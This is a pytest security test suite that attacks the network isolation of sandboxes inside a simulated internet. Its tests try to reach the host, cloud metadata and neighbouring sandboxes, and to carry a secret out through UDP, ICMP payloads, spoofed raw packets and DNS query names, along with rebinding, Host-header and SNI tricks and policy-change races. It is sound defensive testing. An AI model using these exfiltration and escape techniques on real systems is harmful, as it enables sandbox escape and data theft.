"""What leaves a sandbox: the host, its networks and neighbours, and whatever a policy denies.

On an internet made of network namespaces, of which `tests/python/network.py` tells.
"""

import secrets
import threading
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack

import pytest
from e2b import Sandbox

from attack import PRELUDE, Held, World, attack
from gateway import KEY
from names import REBOUND, SERVER, Names, policy
from network import HOST, METADATA, OTHER, PRIVATE, PUBLIC, WEB_PORT, Internet

pytestmark = [pytest.mark.linux, pytest.mark.local("makes an internet of its own")]
# Of every attacker and neighbour here.
POLICY = policy("a.test", REBOUND)
PINGS = [("pings", "icmp", 0)]
# Writes down what comes, from wherever.
RECORDER = """
import socket, sys
kind = {"udp": socket.SOCK_DGRAM, "icmp": socket.SOCK_RAW}[sys.argv[1]]
number = socket.IPPROTO_ICMP if sys.argv[1] == "icmp" else 0
server = socket.socket(socket.AF_INET, kind, number)
server.bind((sys.argv[2], int(sys.argv[3])))
record = open(sys.argv[4], "ab", 0)
print("up", flush=True)
while True:
    data, source = server.recvfrom(4096)
    record.write(data + b" from " + source[0].encode() + b"\\n")
"""
# Says more than anybody can take.
FLOOD = """
import contextlib, socket, sys, threading
server = socket.create_server((sys.argv[1], int(sys.argv[2])))
def flood(one):
    with contextlib.suppress(OSError):
        while True:
            one.sendall(bytes(1 << 16))
print("up", flush=True)
while True:
    threading.Thread(target=flood, args=(server.accept()[0],), daemon=True).start()
"""
FLOOD_PORT = 9999


class Outside(World):
    """A gateway in an internet of its own, whose sandboxes may reach two names."""

    def __init__(self, directory, down=()):
        super().__init__(down)
        self.directory, self.inside_of, self.records = directory, ExitStack(), {}

    def start(self):
        self.internet = self.inside_of.enter_context(Internet())
        self.names = self.inside_of.enter_context(Names(self.internet, self.directory))
        for name, kind, port in [("datagrams", "udp", 999), ("questions", "udp", 53)] + PINGS:
            self.records[name] = self.directory / name
            space, record = self.internet.world, self.records[name]
            self.internet.python(space, RECORDER, kind, OTHER, port, record)
        self.internet.python(self.internet.world, FLOOD, OTHER, FLOOD_PORT)
        self.gateway.prefix = [*self.internet.enter(self.internet.host), *self.gateway.prefix]
        self.gateway.flags = (*self.gateway.flags, "--dns", SERVER)
        super().start()
        url = self.internet.relay(self.gateway.address)
        self.outside = {"api_url": url, "sandbox_url": url, "api_key": KEY}
        return self

    def remove(self):
        with self.inside_of:
            super().remove()

    def create(self, **options):
        given = {"timeout": 600, "network": POLICY, **options}
        sandbox = Sandbox.create(**given, **self.outside)
        sandbox.files.write("/opt/inside.py", PRELUDE + REACH, user="root")
        return sandbox


# What attacks here have at hand in a sandbox.
REACH = '''
import contextlib, socket, struct, random, threading, time

def tcp(target, port, say=b"GET / HTTP/1.0\\r\\n\\r\\n"):
    """What a server says."""
    with socket.create_connection((target, port), 1) as one:
        one.sendall(say)
        return one.recv(200)

def echoed(target, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(1)
        one.connect((target, port))
        one.send(b"echo")
        return one.recv(200)

def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data[: len(data) // 2 * 2]))
    total += data[-1] << 8 if len(data) % 2 else 0
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF

def ping(target, data):
    head = struct.pack("!BBHHH", 8, 0, 0, 7, 1)
    head = struct.pack("!BBHHH", 8, 0, checksum(head + data), 7, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as one:
        one.sendto(head + data, (target, 0))

def raw(source, target, port, data):
    """A datagram with whatever source."""
    udp = struct.pack("!HHHH", 999, port, 8 + len(data), 0) + data
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as one:
        one.sendto(head + udp, (target, 0))

def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect(("203.0.113.10", 9))
        return one.getsockname()[0]

def ask(server, name, kind=1, by="udp"):
    labels = b"".join(bytes([len(one)]) + one.encode() for one in name.split("."))
    query = struct.pack("!HHHHHH", random.randrange(1 << 16), 0x100, 1, 0, 0, 0) + labels
    query += struct.pack("!BHH", 0, kind, 1)
    if by == "tcp":
        with socket.create_connection((server, 53), 2) as one:
            one.sendall(struct.pack("!H", len(query)) + query)
            return one.recv(4096)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(2)
        one.sendto(query, (server, 53))
        return one.recv(4096)

def hello(target, port, name):
    """What is said by TLS to who asks for that name."""
    import ssl
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((target, port), 2) as one:
        with context.wrap_socket(one, server_hostname=name) as secure:
            secure.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
            said = b""
            while more := secure.recv(400):
                said += more
            return said.partition(b"this is ")[2]
'''


@pytest.fixture(scope="module")
def worlds(tmp_path_factory):
    made = {}

    def enter(down):
        if down not in made:
            made[down] = Outside(tmp_path_factory.mktemp("world"), down).start()
        return made[down]

    yield enter
    with ThreadPoolExecutor() as pool:
        list(pool.map(Outside.remove, made.values()))


@pytest.fixture
def secret():
    """Something to be carried out."""
    return secrets.token_hex(8)


def came(world, path, secret):
    """What somebody out there has of it, if he has. Whatever was sent last comes last."""

    def last():
        tcp("a.test", 8000)
        return "sent"

    world.inside(last)
    text = path.read_bytes() if path.exists() else b""
    return next((line for line in text.splitlines() if secret.encode() in line), None)


# --- the host, its networks and its other sandboxes


@pytest.mark.parametrize("target", [PRIVATE, METADATA, HOST["public"], HOST["private"]])
@attack("no-inner-networks", without=("packet-filter", "network-policy"))
def test_an_address_of_the_hosts_own_networks_is_reached(world, target):
    assert world.internet.reaches(target), "nobody is there"
    return world.inside(tcp_of, target, WEB_PORT)


@pytest.mark.parametrize("target", [PRIVATE, METADATA, HOST["public"]])
@attack("no-inner-networks", without="packet-filter")
def test_one_that_is_allowed_by_a_policy_is_reached(world, target):
    with world.another(network={"allow_out": ["0.0.0.0/0"], "deny_out": ["0.0.0.0/0"]}) as one:
        return world.inside(tcp_of, target, WEB_PORT, sandbox=one)


@attack("no-inner-networks", without=("packet-filter", "network-policy"))
def test_the_hosts_end_of_the_link_is_reached(world):
    def attempt(port):
        with open("/proc/net/route") as routes:
            fields = next(line.split() for line in routes if line.split()[1] == "00000000")
        return tcp(socket.inet_ntoa(struct.pack("<I", int(fields[2], 16))), port)

    return world.inside(attempt, WEB_PORT)


@attack("no-inner-networks", without=("packet-filter", "network-policy"))
def test_a_neighbour_is_reached(world):
    def listen():
        with socket.socket() as server:
            server.bind(("0.0.0.0", 7777))
            server.listen()
            say(own_address())
            while True:
                server.accept()[0].send(b"secret")

    with world.while_inside(listen, sandbox=world.neighbour) as address:
        return world.inside(tcp_of, address, 7777)


@attack("no-inner-networks", without=("packet-filter", "network-policy"))
def test_a_neighbour_is_sent_a_datagram(world):
    def listen():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
            server.bind(("0.0.0.0", 7777))
            say(own_address())
            while True:
                data, source = server.recvfrom(99)
                server.sendto(data, source)

    def attempt(address):
        return echoed(address, 7777)

    with world.while_inside(listen, sandbox=world.neighbour) as address:
        return world.inside(attempt, address)


@attack("no-inner-networks", without=("packet-filter", "network-policy"))
def test_an_allowed_name_leads_to_a_private_address(world):
    def attempt(name, port):
        return tcp(name, port)

    return world.inside(attempt, REBOUND, WEB_PORT)


@attack("no-inner-networks", nothing_without="its link has no IPv6, and the host none for it")
def test_ipv6_is_spoken_over_the_link(world):
    def attempt():
        with open("/proc/net/if_inet6") as addresses:
            return [line for line in addresses if line.split()[-1] == "eth0"]

    return world.inside(attempt)


# --- what a policy denies


@attack("network-policy", without="network-policy")
def test_an_address_that_is_denied_is_reached(world):
    return world.inside(tcp_of, OTHER, WEB_PORT)


@attack("network-policy", without="network-policy")
def test_a_datagram_is_sent_to_who_is_denied(world, secret):
    def attempt(target, secret):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            with contextlib.suppress(OSError):
                one.sendto(secret.encode(), (target, 999))
        return "sent"

    world.inside(attempt, OTHER, secret)
    return came(world, world.records["datagrams"], secret)


@attack("network-policy", without="network-policy")
def test_a_ping_carries_something_to_who_is_denied(world, secret):
    def attempt(target, secret):
        ping(target, secret.encode())
        return "sent"

    world.inside(attempt, OTHER, secret)
    return came(world, world.records["pings"], secret)


@attack("network-policy", without="network-policy")
def test_a_raw_datagram_is_sent_to_who_is_denied(world, secret):
    def attempt(target, secret):
        raw(own_address(), target, 999, secret.encode())
        return "sent"

    world.inside(attempt, OTHER, secret)
    return came(world, world.records["datagrams"], secret)


@attack("network-policy", without=("network-policy", "packet-filter"))
def test_a_datagram_in_the_name_of_another_is_sent(world, secret):
    def attempt(target, secret):
        raw("198.51.100.7", target, 999, secret.encode())
        return "sent"

    world.inside(attempt, OTHER, secret)
    return came(world, world.records["datagrams"], secret)


@attack("network-policy", without="network-policy")
def test_an_open_connection_goes_on_when_it_is_denied(world):
    def attempt(target, port):
        one = socket.create_connection((target, port), 2)
        say("open")
        time.sleep(1.5)
        one.sendall(b"GET / HTTP/1.0\r\n\r\n")
        one.settimeout(3)
        return one.recv(99)

    with world.another(network={}) as sandbox:
        command = world.command(attempt, PUBLIC, WEB_PORT)
        running = sandbox.commands.run(command, user="root", background=True, timeout=20)
        said, denied = "", False
        for out, _, _ in running:
            said += out or ""
            if "@open" in said and not denied:
                denied = True
                sandbox.update_network({"deny_out": [PUBLIC]})
        assert denied
        told = said.rpartition("\n@")[2]
        if told.startswith("HELD"):
            raise Held(told)
        return told


@attack("network-policy", without="network-policy")
def test_a_gap_is_found_while_a_policy_changes_under_load(world):
    """Each of both policies denies it."""

    def attempt(target, port):
        found = []
        ends = time.monotonic() + 3

        def knock():
            while time.monotonic() < ends and not found:
                with socket.socket() as one:
                    one.settimeout(0.2)
                    if one.connect_ex((target, port)) == 0:
                        found.append("connected")

        threads = [threading.Thread(target=knock) for _ in range(8)]
        say("knocking")
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return found

    policies = [{"deny_out": [OTHER]}, {"allow_out": [PUBLIC], "deny_out": ["0.0.0.0/0"]}]
    with world.another(network=policies[0]) as sandbox:
        over = threading.Event()

        def flip():
            n = 0
            while not over.is_set():
                n += 1
                sandbox.update_network(policies[n % 2])

        flipping = threading.Thread(target=flip)
        flipping.start()
        try:
            return world.inside(attempt, OTHER, WEB_PORT, sandbox=sandbox)
        finally:
            over.set()
            flipping.join()


# --- names


@pytest.mark.parametrize("by", ["udp", "tcp"])
@attack("network-policy", without="network-policy")
def test_a_question_carries_something_out(world, secret, by):
    def attempt(server, name, by):
        with contextlib.suppress(OSError):
            ask(server, name, 1, by)
        return "asked"

    world.inside(attempt, SERVER, f"{secret}.b.test", by)
    return secret if world.names.asked(secret) else None


@attack("network-policy", without="network-policy")
def test_the_letters_of_an_allowed_name_carry_something_out(world, secret):
    letters = "".join(c.upper() if int(d, 16) & 1 else c for c, d in zip("rebound", secret))
    letters = "R" + letters[1:-1] + "D"

    def attempt(server, name):
        with contextlib.suppress(OSError):
            ask(server, name)
        return "asked"

    world.inside(attempt, SERVER, f"{letters}.a.test")
    return letters if world.names.asked(f"{letters}.a.test") else None


@attack("network-policy", without="network-policy")
def test_something_but_an_address_is_asked_of_an_allowed_name(world):
    def attempt(server):
        with contextlib.suppress(OSError):
            ask(server, "a.test", 16)
        return "asked"

    before = world.names.log.read_text().count("query[TXT]")
    world.inside(attempt, SERVER)
    return "a text" if world.names.log.read_text().count("query[TXT]") > before else None


@attack("network-policy", without="network-policy")
def test_a_resolver_of_somebody_elses_is_asked(world, secret):
    def attempt(server, name):
        with contextlib.suppress(OSError):
            ask(server, name)
        return "asked"

    world.inside(attempt, OTHER, f"{secret}.a.test")
    return came(world, world.records["questions"], secret)


@attack("network-policy", without="network-policy")
def test_a_name_that_is_denied_is_reached_by_tls_at_an_allowed_ones_address(world):
    def attempt(target):
        return hello(target, 443, "b.test")

    return world.inside(attempt, PUBLIC)


@pytest.mark.parametrize(
    "request_head",
    [
        "GET / HTTP/1.1\r\nHost: b.test\r\n\r\n",
        "GET http://b.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: a.test\r\nHost: b.test\r\n\r\n",
        "GET / HTTP/1.0\r\n\r\n",
    ],
    ids=["a host", "a target", "two hosts", "no host"],
)
@attack("network-policy", without="network-policy")
def test_a_name_that_is_denied_is_asked_for_at_an_allowed_ones_address(world, request_head):
    def attempt(target, head):
        return tcp(target, 80, head.encode())

    return world.inside(attempt, PUBLIC, request_head)


@attack("network-policy", without="network-policy")
def test_quic_is_spoken_to_an_allowed_names_address(world):
    def attempt(target):
        tcp("a.test", 8000)
        return echoed(target, 443)

    return world.inside(attempt, PUBLIC)


def tcp_of(target, port):
    return tcp(target, port)


# --- how fast it may send and receive

RATE = 64 << 10
SECONDS = 2
# What was said already, what may go at once, and what is counted of the packets too.
MOST = 4 * RATE * SECONDS


@attack("limits", without="limits")
def test_more_is_sent_than_a_sandbox_may(world):
    def attempt(target, seconds):
        end = time.monotonic() + seconds
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            while time.monotonic() < end:
                with contextlib.suppress(OSError):
                    one.sendto(b"x" * 1000, (target, 999))
        return "sent"

    limits = {"coppice.limits": f"net-out={RATE >> 10}"}
    with world.another(network=None, metadata=limits) as one:
        before = world.records["datagrams"].stat().st_size
        world.inside(attempt, OTHER, SECONDS, sandbox=one)
        came = world.records["datagrams"].stat().st_size - before
    assert came > RATE // 2, "nothing was sent"
    return came > MOST and f"{came >> 10} KiB in {SECONDS} s"


@attack("limits", without="limits")
def test_more_is_received_than_a_sandbox_may(world):
    def attempt(target, port, seconds, most):
        end, came = time.monotonic() + seconds, 0
        with socket.create_connection((target, port), 5) as one:
            one.settimeout(seconds)
            while time.monotonic() < end:
                came += len(one.recv(1 << 16))
        return came > most and f"{came >> 10} KiB in {seconds} s"

    limits = {"coppice.limits": f"net-in={RATE >> 10}"}
    with world.another(network=None, metadata=limits) as one:
        return world.inside(attempt, OTHER, FLOOD_PORT, SECONDS, MOST, sandbox=one)
